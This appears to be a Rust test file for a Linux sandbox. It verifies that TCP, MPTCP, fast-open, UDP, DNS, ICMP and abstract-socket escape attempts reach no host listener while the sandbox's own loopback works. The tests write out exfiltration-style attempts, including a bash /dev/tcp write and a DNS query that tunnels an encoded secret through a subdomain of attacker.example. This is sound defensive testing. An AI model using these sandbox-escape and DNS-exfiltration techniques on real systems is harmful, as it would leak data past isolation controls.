//! No network: each way out that got past Landlock alone, tried against a listener of the host
//! on 127.0.0.1, which must see nothing. The sandbox's own loopback works.

use std::io::{ErrorKind, Read};
use std::net::TcpStream;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::time::Duration;

use libtest_mimic::Trial;
use skills_sandbox::{Guarantee, Policy};

use crate::support::{
    Outcome, attempt, bash, is_root, passed, python, site, spawn, trial, unique, without,
    without_namespaces, without_root,
};
use skills_test_support::host_listeners::{
    assert_no_connection, assert_no_datagram, tcp_listener, udp_listener,
};
use skills_test_support::skip_if;

pub fn tests() -> Vec<Trial> {
    vec![
        trial(
            "network_tcp_connect_to_the_host_fails_unless_allowed",
            tcp_connect,
        ),
        trial("network_mptcp_sockets_are_refused", mptcp),
        trial("network_tcp_fast_open_reaches_nothing_outside", fast_open),
        trial(
            "network_listen_without_bind_is_not_reachable_from_the_host",
            listen_without_bind,
        ),
        trial("network_udp_reaches_nothing_outside", udp),
        trial("network_a_dns_query_reaches_no_resolver", dns),
        trial("network_raw_icmp_is_refused_as_root", raw_icmp),
        trial(
            "network_a_host_abstract_unix_socket_is_unreachable",
            abstract_socket,
        ),
        trial("network_the_private_loopback_works", private_loopback),
    ]
}

fn tcp_connect() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    let (listener, port) = tcp_listener();
    let script = format!("echo hello > /dev/tcp/127.0.0.1/{port} && echo sent");
    let denied = bash(&Policy::default(), &site.work, &script);
    assert!(!denied.stdout.contains("sent"), "{}", denied.output());
    assert_no_connection(&listener, &denied.output());
    // The control: with the network allowed the same command gets through, so the test can
    // see a connection when there is one.
    let open = Policy {
        allow_network: true,
        ..Policy::default()
    };
    let sent = bash(&open, &site.work, &script);
    assert!(sent.ok().contains("sent"), "{}", sent.output());
    listener.set_nonblocking(false).unwrap();
    let (mut stream, _) = listener.accept().unwrap();
    let mut got = String::new();
    stream.read_to_string(&mut got).unwrap();
    assert_eq!(got, "hello\n");
    passed()
}

fn mptcp() -> Outcome {
    let site = site();
    let (listener, port) = tcp_listener();
    let run = python(
        &Policy::default(),
        &site.work,
        &attempt(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n\
             s.connect(('127.0.0.1', {port}))\nprint('connected')"
        )),
    );
    // EPERM from the system call filter, whatever the kernel's MPTCP support.
    assert_eq!(run.ok().trim(), "refused 1", "{}", run.output());
    assert_no_connection(&listener, &run.output());
    passed()
}

fn fast_open() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    let (listener, port) = tcp_listener();
    let run = python(
        &Policy::default(),
        &site.work,
        &attempt(&format!(
            "s = socket.socket()\n\
             s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {port}))\n\
             print('sent')"
        )),
    );
    assert!(run.ok().starts_with("refused"), "{}", run.output());
    assert_no_connection(&listener, &run.output());
    passed()
}

fn listen_without_bind() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    // `listen` without `bind` binds a free port on every address of the sandbox's network.
    let mut running = spawn(
        &Policy::default(),
        &site.work,
        "python3",
        &[
            "-c",
            "import socket, sys\n\
             try:\n    s = socket.socket(); s.listen()\n\
             except OSError as e: print('refused', e.errno); sys.exit()\n\
             print(s.getsockname()[1], flush=True)\n\
             s.settimeout(3)\n\
             try:\n    s.accept(); print('accepted', flush=True)\n\
             except OSError: print('nobody came', flush=True)",
        ],
        |_| {},
    );
    let (port, mut rest) = running.first_line();
    if port.starts_with("refused") {
        // The fallback's filter refuses the socket: nothing listens at all.
        let status = running.wait_or_kill(Duration::from_secs(10));
        running.call.finish(status).unwrap();
        return passed();
    }
    let port: u16 = port
        .parse()
        .unwrap_or_else(|_| panic!("a port, not {port:?}"));
    let reached =
        TcpStream::connect_timeout(&([127, 0, 0, 1], port).into(), Duration::from_secs(1));
    assert!(
        reached.is_err(),
        "the host reached the sandbox's listener on {port}"
    );
    let mut tail = String::new();
    rest.read_to_string(&mut tail).unwrap();
    let status = running.wait_or_kill(Duration::from_secs(10));
    running.call.finish(status).unwrap();
    assert_eq!(tail.trim(), "nobody came");
    passed()
}

fn udp() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    let (socket, port) = udp_listener();
    let run = python(
        &Policy::default(),
        &site.work,
        &attempt(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.sendto(b'exfiltrated', ('127.0.0.1', {port}))\nprint('sent')"
        )),
    );
    // Sent into the sandbox's own loopback, where nobody listens on that port (or refused by
    // the fallback's filter).
    run.ok();
    assert_no_datagram(&socket, &run.output());
    passed()
}

fn dns() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    // A resolver of the host's, on loopback, standing in for the one in /etc/resolv.conf.
    let (resolver, port) = udp_listener();
    let secret = "c2VjcmV0LWRhdGE";
    let run = python(
        &Policy::default(),
        &site.work,
        &format!(
            "import socket, struct\n\
             name = b''.join(bytes([len(p)]) + p for p in b'{secret}.attacker.example'.split(b'.')) + b'\\0'\n\
             query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)\n\
             try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n    \
             s.sendto(query, ('127.0.0.1', {port})); s.recv(512); print('answered')\n\
             except OSError: print('no answer')\n\
             try:\n    socket.getaddrinfo('{secret}.attacker.example', 80); print('resolved')\n\
             except OSError: print('not resolved')"
        ),
    );
    assert_eq!(
        run.ok().trim(),
        "no answer\nnot resolved",
        "{}",
        run.output()
    );
    assert_no_datagram(&resolver, &run.output());
    passed()
}

fn raw_icmp() -> Outcome {
    skip_if!(without_root());
    let site = site();
    let run = python(
        &Policy::default(),
        &site.work,
        "import socket\n\
         for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):\n    \
         try:\n        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)\n        \
         s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('127.0.0.1', 0)); print('sent')\n    \
         except OSError as e: print('refused', e.errno)",
    );
    assert!(is_root());
    // Raw sockets need CAP_NET_RAW, which root does not have in the sandbox; ping sockets are
    // closed to every group in a new network namespace (the fallback's filter refuses both).
    let out = run.ok();
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        matches!(lines[..], ["refused 1", "refused 1" | "refused 13"]),
        "{}",
        run.output()
    );
    passed()
}

fn abstract_socket() -> Outcome {
    skip_if!(without(Guarantee::NoNetwork));
    let site = site();
    let name = unique("skills-sandbox-test-abstract");
    let listener =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(name.as_bytes()).unwrap()).unwrap();
    listener.set_nonblocking(true).unwrap();
    let run = python(
        &Policy::default(),
        &site.work,
        &attempt(&format!(
            "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('connected')"
        )),
    );
    assert!(run.ok().starts_with("refused"), "{}", run.output());
    match listener.accept() {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the host's abstract socket was reached: {other:?}"),
    }
    passed()
}

fn private_loopback() -> Outcome {
    skip_if!(without_namespaces());
    let site = site();
    let run = python(
        &Policy::default(),
        &site.work,
        "import socket, threading\n\
         server = socket.create_server(('127.0.0.1', 0)); port = server.getsockname()[1]\n\
         def answer():\n    c, _ = server.accept(); c.sendall(c.recv(100).upper()); c.close()\n\
         threading.Thread(target=answer).start()\n\
         client = socket.create_connection(('127.0.0.1', port)); client.sendall(b'ping')\n\
         print(client.recv(100).decode())",
    );
    assert_eq!(run.ok().trim(), "PING", "{}", run.output());
    passed()
}
